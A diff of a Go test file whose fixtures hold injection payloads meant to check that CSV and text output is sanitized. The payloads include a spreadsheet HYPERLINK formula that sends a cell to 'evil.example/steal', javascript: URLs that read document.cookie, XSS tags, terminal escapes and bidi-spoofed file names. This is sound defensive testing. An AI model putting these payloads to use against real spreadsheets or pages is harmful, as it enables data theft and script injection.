@@ -43,7 +43,7 @@ var items = []Item{
 		Outlet:  `=HYPERLINK("https://evil.example/steal?c="&A1,"Click for details")`,
 		Title:   "<script>alert('x')</script> Breaking\n#667 approved Fake Outlet",
 		URL:     "javascript:alert(document.cookie)",
-		Line:    "Line with\x07bell,\x00null,\x1b[31mescape\x1b[0m, *stars*, _under_, `code`, # hash, | pipe and [click](javascript:alert(1))\n• forged bullet\u2028and a \xff byte",
+		Line:    "1. Line with\x07bell,\x00null,\x1b[31mescape\x1b[0m, *stars*, _under_, `code`, # hash, | pipe and [click](javascript:alert(1))\n• forged bullet\u2028and a \xff byte",
 		Status:  "new",
 		Snippet: "<img src=x onerror=alert(1)> &amp; <a href=\"javascript:void(0)\">link</a> \u202etxt.exe\u202c \u2067isolate\u2069",
 		Type:    "news",
@@ -358,7 +358,7 @@ func TestCSV(t *testing.T) {
 	}
 	for i, row := range rows[1:] {
 		for j, cell := range row {
-			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+			if cell != "" && looksLikeFormula(cell) {
 				t.Errorf("row %d, %s: got %q, which a spreadsheet runs as a formula", i+1, rows[0][j], cell)
 			}
 		}
